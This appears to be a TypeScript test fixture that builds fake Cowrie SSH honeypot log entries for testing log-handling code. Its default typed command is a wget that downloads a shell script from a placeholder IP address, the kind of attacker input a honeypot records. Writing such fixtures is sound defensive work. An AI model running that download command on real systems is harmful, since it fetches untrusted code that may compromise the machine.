type Fields = Readonly<Record<string, unknown>>

/** One line of a Cowrie log, a typed command unless it says otherwise; fields in the order in which Cowrie 3 writes them. */
export function cowrieLine(fields: Fields = {}): string {
  return JSON.stringify({
    session: 'a1b2c3d4e5f6',
    protocol: 'ssh',
    src_ip: '198.51.100.20',
    input: 'wget http://203.0.113.9/x.sh',
    eventid: 'cowrie.command.input',
    sensor: 'decky-01',
    timestamp: '2026-11-20T08:25:04.595003Z',
    ...fields,
  })
}

/** A log of typed commands, one second apart. */
export function commandLog(commands: readonly string[]): string {
  const start = Date.UTC(2026, 10, 20, 8)
  return commands
    .map((input, index) => `${cowrieLine({ input, timestamp: new Date(start + index * 1000).toISOString() })}\n`)
    .join('')
}
